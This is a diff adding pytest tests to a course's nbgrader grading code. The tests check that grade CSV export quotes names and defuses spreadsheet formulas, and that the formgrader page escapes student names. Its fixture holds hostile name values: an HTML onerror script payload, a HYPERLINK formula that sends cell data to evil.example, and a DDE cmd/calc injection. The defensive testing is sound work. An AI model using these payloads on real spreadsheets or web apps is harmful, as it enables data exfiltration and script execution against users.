@@ -96,3 +96,89 @@ def test_a_planted_pyvenv_cfg_keeps_no_grading_folder_open(tmp_path):
              if p.is_dir() and p.stat().st_mode & 0o077 and ".venv" not in p.parts}
     assert not still, f"folders left open to the class after make_private, with a student's pyvenv.cfg in them: {still}"
     assert stat.S_IMODE(venv.stat().st_mode) == 0o777, "the course's venv is left as it is"
+
+
+HOSTILE = {"first_name": '<img src=x onerror="alert(1)">Bob, "the"', "last_name": '=HYPERLINK("http://evil.example/?"&A2,"open")',
+           "email": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def _gradebook_with_a_hostile_roster(tmp_path, monkeypatch):
+    """A gradebook whose student names came from the LMS's roster (``nbgrader db student import``, nbgrader's own
+    command: an LMS display name is the student's to edit)."""
+    import sys
+    from nbgrader.api import Gradebook
+    monkeypatch.setenv("PATH", os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"])  # alembic
+    db = f"sqlite:///{tmp_path / 'gradebook.db'}"
+    with Gradebook(db) as gb:
+        gb.add_assignment(A)
+        gb.add_student("mallory", **HOSTILE)
+        gb.add_student("alice", first_name="Alice", last_name="Liddell")
+        gb.add_submission(A, "alice")
+    return db
+
+
+def test_export_writes_each_name_in_its_own_column_and_no_formula(tmp_path, monkeypatch):
+    """nbgrader's export writes its CSV with ``",".join`` and ``str.format``: a name holding a comma moved every
+    later column (the course's status column reads the row back: mallory's first name read ``open)``, her
+    status and scores other columns' text), and a name starting with ``=``, ``+``, ``-`` or ``@`` is a formula in the spreadsheet the
+    instructor opens it in (a link that sends the sheet's cells away, DDE). Every field is now quoted as CSV
+    quotes, and a text field starting with one of those characters is prefixed with ``'``."""
+    import csv
+    from nbgrader.api import Gradebook
+    from course.grading.report.grades_csv import CsvWithStatus
+    db = _gradebook_with_a_hostile_roster(tmp_path, monkeypatch)
+    dest = tmp_path / "grades.csv"
+    with Gradebook(db) as gb:
+        try:
+            CsvWithStatus(to=str(dest)).export(gb)
+        except Exception as exc:
+            pytest.fail(f"nbgrader export with the LMS roster's names {HOSTILE} raised {exc!r} (expected: the class's "
+                        "grades.csv, one row a student)")
+    rows = {r["student_id"]: r for r in csv.DictReader(dest.open(newline=""))}
+    assert sorted(rows) == ["alice", "mallory"], rows
+    m = rows["mallory"]
+    assert None not in m and m["status"] == "not submitted" and m["score"] == "", \
+        f"a name with a comma moved mallory's columns: {m}"
+    for key, value in HOSTILE.items():
+        expected = "'" + value if value[0] in "=+-@" else value
+        assert m[key] == expected, f"{key}: expected {expected!r} (a formula made text), got {m[key]!r}"
+    assert rows["alice"]["first_name"] == "Alice" and rows["alice"]["status"] == "graded", rows["alice"]
+
+
+def test_a_students_name_is_text_in_the_formgraders_page(tmp_path, monkeypatch):
+    """The formgrader's submission page (nbconvert's HTML with nbgrader's ``formgrade`` template) prints ``resources.last_name``,
+    ``resources.first_name`` and ``resources.student`` with no escaping, in the instructor's Jupyter server's origin
+    (its token, as root in the README): a name from the LMS roster ran script there. They are now escaped with the
+    course's settings. (``formgrade_404.tpl`` prints them too, but imports a macro file nbgrader does not ship: it
+    never renders.)"""
+    import nbgrader
+    from nbconvert import HTMLExporter
+    from nbformat.v4 import new_markdown_cell, new_notebook
+    from traitlets.config import Config
+    from course.grading import config
+    c = Config()
+    config.html_sanitizing(c)
+    formgrader = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
+    c.HTMLExporter.template_name = "formgrade"
+    c.HTMLExporter.extra_template_basedirs = [os.path.join(formgrader, "templates")]
+    resources = {"assignment_id": A, "notebook_id": "n", "submission_id": "1", "index": 0, "total": 1,
+                 "base_url": "", "student": "mallory", "last_name": HOSTILE["last_name"],
+                 "first_name": HOSTILE["first_name"], "notebook_path": "autograded/mallory/a/n.ipynb"}
+    page, _ = HTMLExporter(config=c).from_notebook_node(new_notebook(cells=[new_markdown_cell("hi")]),
+                                                        resources=dict(resources))
+    assert not _onerror(page), \
+        f"the formgrader's page holds the student's name as HTML: elements {_onerror(page)} (expected it as text)"
+    assert '&lt;img src=x onerror="alert(1)"&gt;Bob, "the"' in page, "the name is shown, as text"
+
+
+def _onerror(page: str) -> list:
+    """The elements of ``page`` with an ``onerror`` handler (nbgrader's templates have none)."""
+    from html.parser import HTMLParser
+    found = []
+
+    class Scan(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if any(k == "onerror" for k, _ in attrs):
+                found.append((tag, attrs))
+    Scan().feed(page)
+    return found
